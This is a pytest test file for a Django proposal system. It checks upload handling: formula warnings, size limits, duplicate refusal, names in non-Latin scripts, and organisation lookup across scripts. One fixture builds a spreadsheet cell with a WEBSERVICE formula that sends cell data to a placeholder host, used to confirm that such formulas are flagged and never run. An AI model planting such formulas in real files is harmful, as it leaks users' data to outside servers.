"""Files that come wrong into a proposal: each has an answer in a sentence, and nothing is lost."""

import io
import unicodedata

import pytest
from calls.stage import PDF, TRIAL
from django.urls import reverse
from django.utils.translation import override
from openpyxl import Workbook

from cityloop.assessment.actions import attach_evidence
from cityloop.assessment.models import Evidence
from cityloop.audit.refusal import Refused
from cityloop.organisations.actions import register_organisation
from cityloop.organisations.queries import find_organisations


@pytest.fixture
def draft(stage, client):
    client.force_login(stage.lead)
    return stage.draft()


def attach(stage, case, name, content, language="en"):
    with override(language):
        return attach_evidence(**stage.step(stage.lead), case=case, item="letter", name=name, content=content)


def shown(client, case, language="en"):
    with override(language):
        return client.get(reverse("assessment:item", args=[case.reference, "documents"])).content.decode()


def workbook(*cells):
    book = Workbook()
    book.active.append(cells)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


@pytest.mark.parametrize(
    ("language", "sentence", "outside"),
    [
        ("en", "2 cells hold formulas. Cityloop runs none", "1 of them asks something outside the file"),
        ("ko", "수식이 있는 칸이 2개 있습니다", "그중 1개는 파일 밖의 자료를 불러옵니다"),
    ],
)
def test_a_formula_in_a_workbook_is_told_beside_it_and_never_run(stage, draft, client, language, sentence, outside):
    content = workbook("=1+1", '=WEBSERVICE("http://x.example/"&A1)', "2")
    attach(stage, draft, "cost.xlsx", content)
    page = shown(client, draft, language)
    assert sentence in page and outside in page
    piece = Evidence.objects.get()
    with override(language):
        kept = client.get(reverse("assessment:evidence", args=[draft.reference, piece.pk])).content
    assert kept == content, "it is kept as it came"


def test_a_workbook_without_formulas_has_no_such_sentence(stage, draft, client):
    attach(stage, draft, "cost.xlsx", workbook("one", 2))
    assert "formula" not in shown(client, draft)


@pytest.mark.parametrize(("language", "sentence"), [("en", "larger than 1 MB"), ("ko", "1MB를 넘습니다")])
def test_a_file_that_is_too_large_is_refused_in_a_sentence_and_what_was_there_stays(
    stage, draft, settings, language, sentence
):
    attach(stage, draft, "letter.pdf", PDF)
    settings.UPLOAD_LIMIT_MEGABYTES = 1
    with override(language), pytest.raises(Refused, match=sentence):
        attach(stage, draft, "long.pdf", PDF + b"%" * 1_100_000, language)
    assert [one.name for one in Evidence.objects.filter(withdrawn_at=None)] == ["letter.pdf"]


@pytest.mark.parametrize(("language", "sentence"), [("en", "attached here already"), ("ko", "이미 첨부")])
def test_the_same_file_twice_is_kept_once_and_said_so(stage, draft, language, sentence):
    attach(stage, draft, "letter.pdf", PDF)
    with override(language), pytest.raises(Refused, match=sentence):
        attach(stage, draft, "another name.pdf", PDF, language)
    assert Evidence.objects.count() == 1


@pytest.mark.parametrize(
    "name", ["견적서 (최종).pdf", unicodedata.normalize("NFD", "견적서.pdf"), "Đề xuất cảng.pdf", "عرض.pdf", "提案.pdf"]
)
def test_a_name_in_any_script_is_kept_shown_and_handed_out_again(stage, draft, client, name):
    attach(stage, draft, name, PDF)
    page = shown(client, draft)
    piece = Evidence.objects.get()
    assert piece.name == name and name in page
    with override("en"):
        answer = client.get(reverse("assessment:evidence", args=[draft.reference, piece.pk]))
    assert answer.status_code == 200 and answer["Content-Disposition"].startswith("attachment; filename*=utf-8''")


def test_an_organisation_is_found_by_its_name_in_another_script_and_a_twin_is_not_opened(stage):
    register_organisation(
        actor=None, at=stage.step(None)["at"], code="hai-phong", name_ko="하이퐁시", name_en="Thành phố Hải Phòng",
        kind="local_government", country="VN",
    )  # fmt: skip
    for typed in ("하이퐁시", "THÀNH PHỐ HẢI PHÒNG", "thanh pho hai phong"):
        assert [one.code for one in find_organisations(typed)] == ["hai-phong"], typed
    stage.draft("Cảng xanh")
    with pytest.raises(Refused):
        stage.draft("Cảng xanh", track=TRIAL)
